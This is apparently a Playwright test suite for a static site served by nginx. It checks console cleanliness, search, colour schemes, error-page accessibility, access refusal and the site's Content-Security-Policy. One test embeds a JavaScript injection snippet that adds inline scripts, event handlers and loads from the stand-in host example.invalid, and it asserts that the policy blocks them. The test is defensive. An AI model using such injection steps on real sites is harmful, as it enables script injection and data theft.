"""Served by Debian's nginx with the shipped configuration, at the root and under a path: every page type opens with an
empty console, and search, filters, charts and colours work. From a file share the pages keep the policy themselves."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from lxml import html
from playwright.sync_api import Browser, BrowserContext, Page

from tests.browser.conftest import OnDisk, until
from tests.browser.serving import served, signed_in
from tests.serving.running import Server

pytestmark = pytest.mark.browser
SYSTEM = "demonstration/winter-2022-23/ZD03"
FIRST_VIEW = "demonstration/winter-2022-23/"
WAYS = {"/": "dark", "/winter/": "light"}


@dataclass(frozen=True)
class Served:
    """`pages`: from the site's root, one of each type."""

    server: Server
    pages: tuple[str, ...]

    def url(self, path: str) -> str:
        return f"{self.server.url}{path}"


@pytest.fixture(scope="session", params=[pytest.param("/", marks=pytest.mark.long), "/winter/"])
def site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, above: OnDisk, whole: OnDisk,
         reported: OnDisk, asked: OnDisk) -> Iterator[Served]:
    """Under a path one page of each type, at the root one of each state too."""
    everything = request.param == "/"
    systems = (f"{one.folder.relative_to(above.folder).as_posix()}/{path}"
               for one in ((reported, asked) if everything else (reported,)) for path in one.page_types())
    views = [path for path in whole.page_types() if everything or path.startswith(FIRST_VIEW)]
    pages = (*above.page_types(), *views, *systems)
    with served(tmp_path_factory.mktemp("served"), request.param, above.folder) as server:
        yield Served(server, pages)


@pytest.fixture
def reader(browser: Browser, site: Served) -> Iterator[BrowserContext]:
    context = browser.new_context(extra_http_headers=signed_in("vera"), viewport={"width": 1280, "height": 900},
                                  color_scheme=WAYS[site.server.at])
    yield context
    context.close()


def watch(page: Page) -> list[str]:
    """All that the console says, requests that are refused, and requests to another host, as they come."""
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("response", lambda answer: said.append(f"{answer.status} {answer.url}") if answer.status >= 400 else None)
    page.on("request", lambda request: said.append(f"asked: {request.url}")
            if not request.url.startswith(("http://127.0.0.1:", "file:", "blob:")) else None)
    return said


def test_every_page_type_opens_with_an_empty_console(site: Served, reader: BrowserContext) -> None:
    page = reader.new_page()
    said = watch(page)
    assert {path.partition("/")[0] for path in site.pages} >= {
        "index.html", "guide", "crosswalk", "demonstration", "england"}
    for path in site.pages:
        page.goto(site.url(path), wait_until="load")
        assert page.evaluate("getComputedStyle(document.querySelector('article')).fontFamily").startswith(
            '"Source Sans Pro"'), path
    assert said == []


def test_search_filters_charts_and_colours_work(site: Served, reader: BrowserContext) -> None:
    page = reader.new_page()
    said = watch(page)
    page.goto(site.url(f"{SYSTEM}/index.html"))
    assert found(page, "rapid release").endswith(f"{SYSTEM}/actions/W22-AMB-03.html")
    page.goto(site.url("guide/index.html"))
    assert "/guide/rules/" in found(page, "WP201")
    page.goto(site.url(f"{SYSTEM}/lines.html"))
    everything = page.locator("article tbody tr:visible").count()
    page.get_by_role("searchbox", name="Words in the line").fill("handover")
    until(page, "location.search.includes('handover')")
    assert 0 < page.locator("article tbody tr:visible").count() < everything
    before = page.evaluate("document.body.dataset.mdColorScheme")
    page.locator("[data-md-component=palette] label:visible").click()
    until(page, "before => document.body.dataset.mdColorScheme !== before", before)
    page.goto(site.url(f"{SYSTEM}/measures/index.html"))
    assert page.evaluate("document.body.dataset.mdColorScheme") != before, "the choice is kept"
    drawn = page.locator("article svg:visible").first
    drawn.wait_for()
    assert drawn.bounding_box() is not None
    assert said == []


def found(page: Page, words: str) -> str:
    page.get_by_role("textbox", name="Search").click()
    page.keyboard.type(words)
    first = page.locator(".md-search-result__item").first
    first.wait_for()
    return (first.locator("a").first.evaluate("link => link.href")).partition("?")[0]


ATTACK = """async () => {
    const seen = [];
    document.addEventListener("securitypolicyviolation", event => seen.push(event.effectiveDirective));
    const put = (name, values) => document.body.appendChild(Object.assign(document.createElement(name), values));
    window.hit = [];
    put("script", {textContent: "window.hit.push('script')"});
    put("script", {src: "https://example.invalid/x.js"});
    put("div", {innerHTML: "<p style='color:red' onclick='window.hit.push(1)'>x</p>"}).firstChild.click();
    put("img", {src: "https://example.invalid/x.png"});
    put("iframe", {src: "https://example.invalid/"});
    put("object", {data: "https://example.invalid/x.swf"});
    put("base", {href: "https://example.invalid/"});
    await fetch("https://example.invalid/").catch(() => null);
    await new Promise(done => setTimeout(done, 300));
    return [window.hit, Array.from(new Set(seen)).sort(), new URL("x", document.baseURI).protocol];
}"""
REFUSED = ["base-uri", "connect-src", "frame-src", "img-src", "object-src", "script-src-attr", "script-src-elem",
           "style-src-attr"]


def test_what_slipped_into_a_page_can_neither_run_nor_reach_another_host(site: Served,
                                                                         reader: BrowserContext) -> None:
    page = reader.new_page()
    page.goto(site.url(f"{SYSTEM}/index.html"))
    assert page.evaluate(ATTACK) == [[], REFUSED, "http:"]


def test_nor_from_a_file_share(reported: OnDisk, browser: Browser) -> None:
    page = browser.new_page()
    page.goto(reported.url("index.html"))
    outcome = page.evaluate(ATTACK)
    page.close()
    assert outcome == [[], REFUSED, "file:"]


def test_no_other_site_can_show_ours_in_a_frame(site: Served, reader: BrowserContext, tmp_path: Path) -> None:
    around = tmp_path / "around.html"
    around.write_text(f'<!doctype html><title>x</title><iframe src="{site.url("index.html")}"></iframe>')
    page = reader.new_page()
    page.goto(around.as_uri())
    inside = page.frames[-1]
    inside.wait_for_load_state()
    assert inside.url.startswith("chrome-error:")


def test_pages_carry_the_policy_of_the_header(site: Served) -> None:
    header = site.server.ask("index.html", who="vera").headers["content-security-policy"]
    for path in site.pages:
        text = site.server.ask(path, who="vera").body.decode()
        [carried] = html.document_fromstring(text).xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
        # What the header alone can say is who may show the page; for files on a share their own origin has no name.
        assert f"{carried.replace(' file:', '')}; frame-ancestors 'none'" == header, path
        assert text.index("Content-Security-Policy") < text.index("<script"), path


@pytest.mark.parametrize("status", [401, 403, 404, 405, 500])
def test_the_pages_of_refusals_are_for_everyone(site: Served, reader: BrowserContext, status: int,
                                                project_root: Path) -> None:
    page = reader.new_page()
    said = watch(page)
    page.goto(site.url(f"refused/{status}.html"))
    assert said == []
    page.evaluate((project_root / "node_modules/axe-core/axe.min.js").read_text(encoding="utf-8"))
    assert page.evaluate("axe.run().then(result => result.violations.map(item => item.id))") == []
    assert page.evaluate("document.documentElement.scrollWidth") <= 1280
    assert page.evaluate("getComputedStyle(document.querySelector('header')).backgroundColor") != "rgba(0, 0, 0, 0)"


def test_who_asks_for_another_systems_page_sees_why_he_cannot(site: Served, browser: Browser) -> None:
    context = browser.new_context(extra_http_headers=signed_in("anna"))
    page = context.new_page()
    page.goto(site.url(f"{SYSTEM}/index.html"))
    assert page.get_by_role("heading", level=1).inner_text() == "Not open to you"
    page.get_by_role("link", name="All sites and the guide").click()
    page.locator("article").wait_for()
    context.close()
